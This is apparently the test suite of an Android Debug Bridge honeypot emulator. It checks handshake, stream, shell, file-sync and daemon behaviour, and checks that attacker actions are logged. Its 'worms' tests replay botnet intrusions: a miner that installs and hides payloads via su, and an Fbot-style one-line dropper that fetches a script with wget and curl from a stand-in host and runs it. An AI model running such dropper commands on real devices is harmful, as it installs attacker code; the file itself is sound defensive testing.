import { createHash, randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { FRAME, frame } from '../../../src/emulators/adb/shell.ts'
import { head, message } from '../../../src/emulators/adb/sync-codec.ts'
import { apkOf } from '../../fixtures/apk.ts'
import { collect, connect, type Playing } from '../../harness.ts'
import recording from './adb-29.json' with { type: 'json' }
import { Client, serve } from './conversation.ts'

let open: Playing
let guarded: Playing
beforeAll(async () => {
  ;[open, guarded] = await Promise.all([serve(), serve({ authentication: 'refuse', root: false })])
})
afterAll(async () => {
  await Promise.all([open.stop(), guarded.stop()])
})

const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')
/** What the frames of standard output carry. */
function textOf(frames: Buffer | undefined): string {
  const parts: Buffer[] = []
  for (let rest = frames ?? Buffer.alloc(0); rest.length >= 5; rest = rest.subarray(5 + rest.readUInt32LE(1)))
    if (rest[0] === FRAME.stdout) parts.push(rest.subarray(5, 5 + rest.readUInt32LE(1)))
  return Buffer.concat(parts).toString()
}
/** The head of an executable for this processor, as bots are. */
const armProgram = (): Buffer => {
  const bytes = Buffer.alloc(400)
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1])
  bytes.writeUInt16LE(2, 16)
  bytes.writeUInt16LE(40, 18)
  return bytes
}
const pushed = (path: string, bytes: Buffer, mode = 0o100755): Buffer =>
  Buffer.concat([message('SEND', Buffer.from(`${path},${mode}`)), message('DATA', bytes), head('DONE', 1_700_000_000)])

describe('handshake', () => {
  it('answers a new client with its version, an old one with the old protocol', async () => {
    const client = await Client.to(open)
    client.send('CNXN', 0x01000001, 0x100000, recording.hostPackets[0]?.data)
    const answer = await client.packet()
    expect(answer).toMatchObject({ command: 'CNXN', arg0: 0x01000001, arg1: 0x100000 })
    expect(String(answer?.payload)).toBe(
      'device::ro.product.name=p281;ro.product.model=X96mini;ro.product.device=p281;features=cmd,stat_v2,shell_v2',
    )
    client.close()
    const old = await Client.to(open)
    old.send('CNXN', 0x01000000, 4096, 'host::\0')
    expect(await old.packet()).toMatchObject({ command: 'CNXN', arg0: 0x01000000, arg1: 4096 })
    old.close()
    expect(open.data('adb.connect')[0]).toMatchObject({
      features: 'remount_shell,abb_exec,abb,apex,fixed_push_mkdir,ls_v2,stat_v2,fixed_push_symlink_timestamp,cmd,shell_v2'.split(','),
    })
  })

  it('asks for a key, keeps it, and lets nobody in who is refused', async () => {
    const client = await Client.to(guarded)
    client.send('CNXN', 0x01000001, 0x100000, 'host::')
    const token = await client.packet()
    expect([token?.command, token?.arg0, token?.payload.length]).toEqual(['AUTH', 1, 20])
    client.send('AUTH', 2, 0, Buffer.alloc(256, 1))
    expect((await client.packet())?.payload).not.toEqual(token?.payload)
    client.send('AUTH', 3, 0, Buffer.from(recording.publicKey, 'latin1'))
    const { data } = await guarded.seen('login')
    expect(data).toMatchObject({ method: 'publickey', accepted: false, username: expect.stringMatching(/@/) })
    client.send('OPEN', 1, 0, 'shell:id\0')
    client.close()
    expect(guarded.data('adb.open')).toEqual([])
  })

  it('ends the link at bytes that are no packet', async () => {
    const endless = Buffer.alloc(24)
    for (const [i, word] of [0x4e584e43, 0x01000001, 0x100000, 0xffffffff, 0, 0xb1a7b1bc].entries()) endless.writeUInt32LE(word, i * 4)
    for (const bytes of [Buffer.from('GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n'), Buffer.alloc(64, 0xff), randomBytes(65_536), endless]) {
      const socket = await connect(open.port())
      socket.write(bytes)
      expect(await collect(socket)).toHaveLength(0)
    }
    const half = await connect(open.port())
    half.end(endless.subarray(0, 12))
    await open.seen('adb.malformed', 5)
    expect(open.data('adb.malformed')).toContainEqual({ what: 'payload of 4294967295 bytes, 1048576 agreed' })
    expect(open.data('adb.malformed')).toContainEqual({ what: 'ends after 12 bytes of a header' })
    expect(open.data('lure.fault')).toEqual([])
  })
})

describe('streams', () => {
  it('closes what it does not serve, and writes down where a forward leads', async () => {
    const client = await Client.online(open)
    expect(await client.service('jdwp')).toBeUndefined()
    expect(await client.service('tcp:8080')).toBeUndefined()
    expect(open.data('adb.forward')).toContainEqual({ destination: 'tcp:8080' })
    client.close()
  })

  it('waits for the OKAY of each WRTE', async () => {
    const client = await Client.online(open)
    client.send('OPEN', 1, 0, 'shell:echo a; sleep 0.05; echo b\0')
    const id = (await client.packet())?.arg0 as number
    expect(String((await client.packet())?.payload)).toBe('a\n')
    client.send('OPEN', 2, 0, 'shell:sleep 0.2; echo other\0')
    // The first stream says no more until it is acknowledged; the second is not held up by that.
    expect(await client.packet()).toMatchObject({ command: 'OKAY', arg1: 2 })
    expect(await client.packet()).toMatchObject({ command: 'WRTE', arg1: 2 })
    client.send('OKAY', 1, id)
    expect(String((await client.packet())?.payload)).toBe('b\n')
    client.close()
  })

  it('never uses the same id twice, and not the one of the well-known decoy', async () => {
    const client = await Client.online(open)
    const ids: number[] = []
    for (let i = 1; i <= 3; i++) {
      client.send('OPEN', i, 0, 'shell:\0')
      ids.push((await client.packet())?.arg0 as number)
      await client.packet()
    }
    expect(new Set(ids).size).toBe(3)
    expect(ids).not.toContain(2)
    client.close()
  })

  it('opens 64 at once and no more', async () => {
    const client = await Client.online(open)
    const answers = new Map<number, string>()
    for (let i = 1; i <= 70; i++) client.send('OPEN', i, 0, 'sync:\0')
    while (answers.size < 70) {
      const packet = await client.packet()
      if (packet) answers.set(packet.arg1, packet.command)
    }
    expect([...answers.values()].filter((command) => command === 'OKAY')).toHaveLength(64)
    client.close()
  })

  it('cuts off who writes without waiting', async () => {
    const client = await Client.online(open)
    client.send('OPEN', 1, 0, 'shell:sleep 30\0')
    const id = (await client.packet())?.arg0 as number
    for (let i = 0; i < 12; i++) client.send('WRTE', 1, id, Buffer.alloc(100_000))
    while (await client.packet());
    expect(open.data('adb.malformed')).toContainEqual({ what: 'a WRTE before the OKAY of the last one' })
  })
})

describe('shell', () => {
  it('v2 keeps output and errors apart and ends with the exit code', async () => {
    const client = await Client.online(open)
    const bytes = await client.service('shell,v2,TERM=xterm,raw:echo out; nope')
    expect(bytes).toEqual(
      Buffer.concat([
        frame(FRAME.stdout, Buffer.from('out\n')),
        frame(FRAME.stderr, Buffer.from('/system/bin/sh: nope: not found\n')),
        frame(FRAME.exit, Buffer.of(127)),
      ]),
    )
    client.close()
  })

  it('shows a prompt on a terminal, takes its size, and is recorded', async () => {
    const client = await Client.online(open)
    const shown = await client.service('shell,v2,TERM=xterm,pty:', [
      Buffer.concat([frame(FRAME.windowSize, Buffer.from('40x132,0x0')), frame(FRAME.stdin, Buffer.from('stty size; nope; exit 3\r'))]),
    ])
    expect(textOf(shown)).toMatch(/p281:\/ \$ .*40 132\r\n\/system\/bin\/sh: nope: not found\r\n$/s)
    expect(shown?.subarray(-6)).toEqual(frame(FRAME.exit, Buffer.of(3)))
    expect(open.data('adb.terminal')).toContainEqual(expect.objectContaining({ inputBytes: 24 }))
    client.close()
  })
})

describe('sync', () => {
  it('keeps what is pushed and gives it back', async () => {
    const client = await Client.online(open)
    const bytes = Buffer.from('\x7fELF DONE DATA QUIT'.repeat(300))
    expect(String(await client.service('sync:', [pushed('/data/local/tmp/new/bot', bytes), head('QUIT', 0)]))).toBe('OKAY\0\0\0\0')
    expect(open.artifacts.get(sha256(bytes))?.equals(bytes)).toBe(true)
    expect(open.data('adb.push')).toContainEqual({
      path: '/data/local/tmp/new/bot',
      mode: 0o100755,
      size: bytes.length,
      sha256: sha256(bytes),
    })
    const pulled = await client.service('sync:', [message('RECV', Buffer.from('/data/local/tmp/new/bot')), head('QUIT', 0)])
    expect(pulled).toEqual(Buffer.concat([message('DATA', bytes), head('DONE', 0)]))
    client.close()
    // The same box for who comes back.
    const again = await Client.online(open)
    expect(String(await again.service('shell:ls /data/local/tmp/new; rm -r /data/local/tmp/new; ls /data/local/tmp/new'))).toBe(
      'bot\nls: /data/local/tmp/new: No such file or directory\n',
    )
    again.close()
  })

  it('takes a file whose parts straddle the packets of the old protocol', async () => {
    const client = await Client.online(open, 0x01000000)
    const bytes = randomBytes(200_000)
    const parts = [bytes.subarray(0, 65_536), bytes.subarray(65_536, 131_072), bytes.subarray(131_072, 196_608), bytes.subarray(196_608)]
    const stream = Buffer.concat([
      message('SEND', Buffer.from('/data/local/tmp/old.bin,33188')),
      ...parts.map((part) => message('DATA', part)),
      head('DONE', 1_700_000_000),
      head('QUIT', 0),
    ])
    const packets = Array.from({ length: Math.ceil(stream.length / 4096) }, (_, i) => stream.subarray(i * 4096, (i + 1) * 4096))
    expect(String(await client.service('sync:', packets))).toBe('OKAY\0\0\0\0')
    expect(open.artifacts.get(sha256(bytes))?.equals(bytes)).toBe(true)
    client.close()
  })

  it('lists a folder, and stats what is and what is not there, in both forms', async () => {
    const client = await Client.online(open)
    const asked = (id: string, path: string) => client.service('sync:', [message(id, Buffer.from(path)), head('QUIT', 0)])
    expect((await asked('STAT', '/data/local/tmp'))?.readUInt32LE(4)).toBe(0o40771)
    expect(await asked('STAT', '/nope')).toEqual(Buffer.concat([Buffer.from('STAT'), Buffer.alloc(12)]))
    expect((await asked('STA2', '/data/local/tmp'))?.readUInt32LE(24)).toBe(0o40771)
    expect((await asked('STA2', '/nope'))?.readUInt32LE(4)).toBe(2)
    const listed = await asked('LIST', '/sdcard/')
    expect(listed?.toString('latin1')).toMatch(/DENT[\s\S]{16}Download/)
    expect(listed?.subarray(-20)).toEqual(Buffer.concat([Buffer.from('DONE'), Buffer.alloc(16)]))
    client.close()
  })

  it('fails with the words of adbd', async () => {
    const client = await Client.online(open)
    const failed = await client.service('sync:', [message('RECV', Buffer.from('/nope')), head('QUIT', 0)])
    expect(String(failed?.subarray(8))).toBe('open failed: No such file or directory')
    const refused = await client.service('sync:', [pushed('/system/bin/x', Buffer.from('x')), head('QUIT', 0)])
    expect(String(refused?.subarray(8))).toBe("couldn't create file: Permission denied")
    expect(String((await client.service('sync:', [head('WHAT', 0)]))?.subarray(8))).toBe('unknown command 54414857')
    client.close()
  })
})

describe('daemon', () => {
  it('refuses root as a production build where it is set so', async () => {
    const production = await serve({ root: false })
    const client = await Client.online(production)
    expect(String(await client.service('root:'))).toBe('adbd cannot run as root in production builds\n')
    client.close()
    await production.stop()
  })

  it.each([
    ['reboot:', ''],
    ['tcpip:5555', 'restarting in TCP mode port: 5555\n'],
    ['usb:', 'restarting in USB mode\n'],
    ['tcpip:0', 'invalid port 0\n'],
  ])('%s', async (service, said) => {
    const client = await Client.online(open)
    expect(String(await client.service(service))).toBe(said)
    if (service !== 'tcpip:0') expect(await client.packet()).toBeUndefined()
    const [action, argument = ''] = service.split(':')
    expect(open.data('adb.control')).toContainEqual({ action, argument })
    client.close()
  })

  it('takes, lists and forgets what should be forwarded the other way', async () => {
    const client = await Client.online(open)
    const reverse = async (request: string) => String(await client.service(`reverse:${request}`))
    expect(await reverse('forward:tcp:6100;tcp:7100')).toBe('OKAY')
    expect(await reverse('forward:norebind:tcp:6100;tcp:1')).toBe('FAIL001dcannot rebind existing socket')
    expect(await reverse('forward:tcp:0;tcp:7200')).toMatch(/^OKAY0005\d{5}$/)
    expect(await reverse('list-forward')).toMatch(/^[0-9a-f]{4}host-\d+ tcp:6100 tcp:7100\nhost-\d+ tcp:\d{5} tcp:7200\n$/)
    expect(await reverse('killforward:tcp:6100')).toBe('OKAY')
    expect(await reverse('killforward:tcp:6100')).toBe("FAIL001dlistener 'tcp:6100' not found")
    expect(await reverse('killforward-all')).toBe('OKAY')
    expect(await reverse('list-forward')).toBe('0000')
    expect(await reverse('forward:x')).toBe('FAIL000ebad forward: x')
    expect(await reverse('what')).toMatch(/^FAIL0020not a reverse forwarding command$/)
    client.close()
  })

  it('starts again as root for that source and drops the link', async () => {
    const box = await serve()
    const client = await Client.online(box)
    expect(String(await client.service('root:'))).toBe('restarting adbd as root\n')
    expect(await client.packet()).toBeUndefined()
    const again = await Client.online(box)
    expect(String(await again.service('shell:id -u'))).toBe('0\n')
    again.close()
    await box.stop()
  })
})

describe('worms', () => {
  it('ADB.Miner: looks, pushes its package and parts, installs, starts and hides them', async () => {
    const box = await serve()
    const client = await Client.online(box)
    const [apk, elf] = [apkOf('com.ufo.miner'), armProgram()]
    expect(String(await client.service('shell:pm path com.ufo.miner'))).toBe('')
    await client.service('sync:', [pushed('/data/local/tmp/ufo.apk', apk, 0o100644), head('QUIT', 0)])
    expect(String(await client.service('shell:pm install /data/local/tmp/ufo.apk'))).toBe('Success\n')
    await client.service('shell:rm -f /data/local/tmp/ufo.apk')
    expect(String(await client.service('shell:am start -n com.ufo.miner/com.example.test.MainActivity'))).toMatch(/^Starting: Intent/)
    await client.service('sync:', [pushed('/data/local/tmp/trinity', elf), head('QUIT', 0)])
    await client.service('sync:', [pushed('/data/local/tmp/nohup', elf), head('QUIT', 0)])
    expect(String(await client.service('shell:chmod 0755 /data/local/tmp/nohup; chmod 0755 /data/local/tmp/trinity'))).toBe('')
    const started = await client.service('shell:/data/local/tmp/nohup su -c /data/local/tmp/trinity; ps -A | grep -c com.ufo.miner')
    expect(String(started)).toBe('1\n')
    expect(new Set(box.events.filter(({ type }) => type === 'artifact').map(({ data }) => (data as { sha256: string }).sha256))).toEqual(
      new Set([sha256(apk), sha256(elf)]),
    )
    client.close()
    await box.stop()
  })

  it('Fbot and its kin: a dropper on one line runs to its end', async () => {
    const box = await serve()
    const client = await Client.online(box)
    const line =
      'cd /data/local/tmp/; rm -rf a.sh; busybox wget http://192.0.2.9/a.sh -O - > a.sh; curl http://192.0.2.9/b > b; chmod 777 a.sh; sh a.sh; rm -rf a.sh b; echo done'
    const shown = String(await client.service(`shell:${line}`))
    expect(shown).toMatch(/done\n$/)
    expect(shown).not.toContain('syntax')
    expect(box.events.some(({ type, data }) => type === 'download' || JSON.stringify(data).includes('http://192.0.2.9/a.sh'))).toBe(true)
    client.close()
    await box.stop()
  })
})
